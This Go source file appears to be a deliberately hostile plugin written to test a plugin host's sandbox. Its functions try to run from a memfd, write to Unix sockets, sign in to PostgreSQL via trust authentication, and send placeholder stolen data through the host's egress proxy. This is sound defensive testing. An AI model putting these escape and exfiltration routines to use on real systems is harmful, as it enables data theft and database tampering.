package main

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// egressEnv names the host's egress proxy socket (see sdk/egress).
const egressEnv = "IDPLUG_EGRESS_PROXY"

// outsideUID is the plugin's uid as the machine sees it: in a user namespace
// its own uid may read 0 while it is the host's user outside.
func outsideUID() int {
	uid := os.Getuid()
	raw, err := os.ReadFile("/proc/self/uid_map")
	if err != nil {
		return uid
	}
	for _, line := range strings.Split(strings.TrimSpace(string(raw)), "\n") {
		f := strings.Fields(line)
		if len(f) != 3 {
			continue
		}
		in, _ := strconv.Atoi(f[0])
		out, _ := strconv.Atoi(f[1])
		n, _ := strconv.Atoi(f[2])
		if uid >= in && uid < in+n {
			return out + uid - in
		}
	}
	return uid
}

// execMemfd copies the plugin into a memfd and runs it from there.
func execMemfd() error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return fmt.Errorf("not tried: %w", err)
	}
	fd, err := unix.MemfdCreate("hostile", 0)
	if err != nil {
		return err
	}
	f := os.NewFile(uintptr(fd), "memfd")
	defer f.Close()
	if _, err := f.Write(self); err != nil {
		return err
	}
	return runCopy("/proc/self/fd/" + strconv.Itoa(fd))
}

// sendUnix connects to a named Unix socket and writes to it.
func sendUnix(path string) error {
	c, err := net.DialTimeout("unix", path, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write([]byte("stolen\n"))
	return err
}

// postgresStartup signs in to PostgreSQL as idplug over its Unix socket: with
// trust or peer authentication, answering AuthenticationOk is the whole escape
// (a DELETE would follow).
func postgresStartup(path string) error {
	c, err := net.DialTimeout("unix", path, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	var body []byte
	body = binary.BigEndian.AppendUint32(body, 196608) // protocol 3.0
	for _, kv := range []string{"user", "idplug", "database", "idplug"} {
		body = append(append(body, kv...), 0)
	}
	body = append(body, 0)
	msg := binary.BigEndian.AppendUint32(nil, uint32(len(body)+4))
	if _, err := c.Write(append(msg, body...)); err != nil {
		return err
	}
	head := make([]byte, 9)
	if _, err := c.Read(head); err != nil {
		return err
	}
	if head[0] != 'R' || binary.BigEndian.Uint32(head[5:9]) != 0 {
		return fmt.Errorf("not signed in: %q", head)
	}
	return nil
}

// sendTCP sends an HTTP request to addr, directly or through the egress proxy
// at proxy (an HTTP CONNECT on its Unix socket). Any answer means the data got
// there.
func sendTCP(ctx context.Context, addr, proxy string) error {
	ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	var c net.Conn
	var err error
	if proxy == "" {
		var d net.Dialer
		c, err = d.DialContext(ctx, "tcp", addr)
	} else {
		c, err = connectVia(ctx, proxy, addr)
	}
	if err != nil {
		return err
	}
	defer c.Close()
	if dl, ok := ctx.Deadline(); ok {
		_ = c.SetDeadline(dl)
	}
	if _, err := fmt.Fprintf(c, "GET /v1/connectors HTTP/1.1\r\nHost: %s\r\nX-Stolen: secret\r\nConnection: close\r\n\r\n", addr); err != nil {
		return err
	}
	res, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return err
	}
	res.Body.Close()
	return nil
}

// connectVia asks the proxy for a tunnel to addr, as an attacker would by hand.
func connectVia(ctx context.Context, proxy, addr string) (net.Conn, error) {
	var d net.Dialer
	c, err := d.DialContext(ctx, "unix", proxy)
	if err != nil {
		return nil, err
	}
	if dl, ok := ctx.Deadline(); ok {
		_ = c.SetDeadline(dl)
	}
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", addr, addr)
	br := bufio.NewReader(c)
	res, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
	if err != nil {
		c.Close()
		return nil, err
	}
	if res.StatusCode != http.StatusOK {
		c.Close()
		return nil, errors.New("proxy said " + res.Status)
	}
	return c, nil
}
